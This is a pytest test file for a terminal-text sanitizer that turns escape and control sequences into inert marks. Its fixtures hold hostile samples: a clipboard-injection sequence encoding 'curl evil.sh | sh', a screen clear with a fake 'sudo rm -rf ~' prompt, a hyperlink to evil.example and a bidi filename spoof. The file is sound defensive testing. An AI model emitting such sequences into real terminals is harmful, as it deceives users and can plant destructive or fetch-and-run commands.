"""tui.printable: nothing a terminal would obey survives; ordinary text is untouched."""

from __future__ import annotations

import re

import pytest

from tui.printable import ESCAPE_MARK, LINE_BREAK_MARK, one_line, printable

# What a hostile server (or a proxy) would send: every family the terminal acts on.
OSC_TITLE = "\x1b]0;PWNED\x07"
CLEAR_AND_FAKE_PROMPT = "\x1b[2J\x1b[H\x1b[12;1H$ sudo rm -rf ~"
SGR = "\x1b[31;1mred\x1b[0m"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
BIDI = "report\u202egnp.exe"
HOSTILE = f"hi {OSC_TITLE}{CLEAR_AND_FAKE_PROMPT} {SGR} {OSC_CLIPBOARD}{OSC_LINK} {BIDI}"

# No C0 but newline, no DEL, no C1, no bidi control, no line separator, no lone surrogate.
FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
    "\u2028\u2029\ud800-\udfff]"
)


def test_hostile_text_becomes_inert_and_stays_readable() -> None:
    shown = printable(HOSTILE)
    assert FORBIDDEN.search(shown) is None
    for words in ("hi", "$ sudo rm -rf ~", "red", "click me", "reportgnp.exe"):
        assert words in shown
    # payloads go with their sequence: no title, no clipboard blob, no link target
    for payload in ("PWNED", "Y3VybC", "evil.example", "31;1m", "2J"):
        assert payload not in shown
    assert ESCAPE_MARK in shown  # the reader sees that controls were there


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("\x1b[38;2;255;0;0mx", "␛x"),  # CSI with parameters
        ("\x9b2Jx", "␛x"),  # 8-bit CSI
        ("\x9d0;title\x9cx", "␛x"),  # 8-bit OSC ended by 8-bit ST
        ("\x1bPq#0;2;0;0;0\x1b\\x", "␛x"),  # DCS (sixel) up to ST
        ("\x1b_payload\x07x", "␛x"),  # APC
        ("\x1b^pm\x1b\\x", "␛x"),  # PM
        ("\x1bXsos\x1b\\x", "␛x"),  # SOS
        ("\x1b(Bx", "␛x"),  # charset designation (intermediate byte)
        ("\x1b#8x", "␛x"),  # DECALN: fills the screen with E
        ("\x1bcx", "␛x"),  # RIS: full reset
        ("x\x1b", "x␛"),  # lone ESC at the end
        ("\x1b]0;never ended", "␛"),  # an OSC with no end takes its line...
        ("\x1b]0;cut\nnext", "␛\nnext"),  # ... but not the next one
        ("bell\x07", "bell␇"),
        ("nul\x00", "nul␀"),
        ("back\x08space", "back␈space"),
        ("del\x7f", "del␡"),
        ("\x84ind\x8dri", "␛ind␛ri"),  # other C1 controls (index, reverse index)
        ("a\tb", "a    b"),
        ("a\r\nb\rc\x85d\u2028e\u2029f", "a\nb\nc\nd\ne\nf"),
        (
            "\u202aA\u202bB\u202cC\u202dD\u2066E\u2067F\u2068G\u2069H\u200eI\u200fJ\u061cK",
            "ABCDEFGHIJK",
        ),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ],
)
def test_each_family(raw: str, expected: str) -> None:
    assert printable(raw) == expected


def test_one_line_shows_line_breaks() -> None:
    mark = LINE_BREAK_MARK
    assert one_line("a\nb\r\nc\u2028d") == f"a{mark}b{mark}c{mark}d"
    assert "\n" not in one_line("x\n" * 5)


@pytest.mark.parametrize(
    "clean",
    [
        "plain ascii, punctuation: [b]not markup[/b] $var {}",
        "emoji with ZWJ 👨‍👩‍👧‍👦 and flags 🇫🇷, skin tone 👍🏽",
        "CJK 日本語の文章, Hangul 한국어, accents café naïve Ångström",
        "combining e\u0301 and Arabic العربية and Hebrew עברית",
        "two\nlines",
        "",
    ],
)
def test_ordinary_text_is_returned_as_is(clean: str) -> None:
    assert printable(clean) is clean  # the fast path: not even a copy


def test_pathological_input_stays_inert() -> None:
    # many unterminated introducers: each match ends at the next ESC (no backtracking)
    text = "\x1b]" * 50_000 + "\x1b[" * 50_000
    shown = printable(text)
    assert FORBIDDEN.search(shown) is None
    assert len(shown) <= len(text)


def test_one_line_cuts_a_long_message_before_making_it_inert() -> None:
    assert one_line("x" * 300, 10) == "x" * 9 + "…"
    cut = one_line("\x1b]0;" + "A" * 500, 50)
    assert FORBIDDEN.search(cut) is None and "AAAA" not in cut  # the OSC payload went too
